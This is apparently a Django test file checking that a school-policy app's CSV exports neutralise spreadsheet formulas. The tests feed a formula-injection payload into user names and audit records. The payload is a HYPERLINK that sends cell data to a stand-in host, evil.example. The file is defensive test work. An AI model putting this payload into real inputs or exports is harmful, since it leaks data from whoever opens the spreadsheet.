"""Every CSV export goes through the one formula-neutralising writer (issue #12 point 9)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from django.test import Client
from django.urls import reverse

from harbour.accounts import services as account_services
from harbour.accounts.roles import Role
from harbour.core import csv_export

HARBOUR = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'


def test_cells_that_a_spreadsheet_would_run_are_neutralised():
    out = io.StringIO()
    writer = csv_export.writer(out)
    writer.writerow([ATTACK, "+44 1234", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "Ada", None, 3, -2, 0.5])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[:6] == ["'" + ATTACK, "'+44 1234", "'-1+2", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert cells[6:] == ["Ada", "", "3", "-2", "0.5"]


def test_no_module_writes_csv_except_the_one_writer():
    """A new export must use harbour.core.csv_export, never csv.writer/DictWriter directly."""
    raw = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b")
    offenders = []
    for path in HARBOUR.rglob("*.py"):
        relative = path.relative_to(HARBOUR.parent).as_posix()
        if "/tests/" in relative or relative == "harbour/core/csv_export.py":
            continue
        if raw.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def test_text_csv_responses_come_only_from_modules_that_use_the_writer():
    for path in HARBOUR.rglob("*.py"):
        relative = path.relative_to(HARBOUR.parent).as_posix()
        if "/tests/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if 'content_type="text/csv' in text:
            assert "csv_export" in text or "summary_csv" in text, relative


def test_a_name_chosen_on_accepting_an_invitation_is_neutralised_in_the_acknowledgement_csv(
    world, client_for, django_capture_on_commit_callbacks
):
    from harbour.policy import acknowledgements
    from harbour.policy import services as policy_services
    from harbour.policy.tests.helpers import base_config

    with django_capture_on_commit_callbacks(execute=True):
        issued = account_services.invitation_create(actor=world.head, email="new.teacher@alpha.test", role=Role.TEACHER)
    password = "tidal-lantern-orchard-42"
    accepted = Client().post(
        reverse("accounts:invitation_accept", kwargs={"token": issued.link.rstrip("/").rsplit("/", 1)[-1]}),
        {"full_name": ATTACK, "password1": password, "password2": password},
    )
    assert accepted.status_code == 302

    version = policy_services.policy_version_adopt(
        school=world.school, config=base_config(), note="", approved_on=date(2025, 9, 1)
    )
    version.acknowledgement_roles = acknowledgements.roles_for_groups(["staff"])
    version.save(update_fields=["acknowledgement_roles"])
    acknowledgements.acknowledgement_request_all(actor=None, version=version)

    url = reverse("policy:version_acks_csv", kwargs={"school_slug": "alpha", "pk": version.pk})
    response = client_for("dsl").get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[0] for row in rows if row[1] == "new.teacher@alpha.test"]
    assert names == ["'" + ATTACK]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_audit_export_is_neutralised(world, client_for):
    from harbour.audit import services as audit

    audit.record(action="test.csv", actor=world.dsl, changes={"name": [None, ATTACK]})
    world.dsl.user.email = "=cmd@alpha.test"
    audit.record(action="test.csv", actor=world.dsl)
    response = client_for("dsl").get(reverse("audit:event_export", args=["alpha"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert any(cell == "'=cmd@alpha.test" for row in rows for cell in row)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
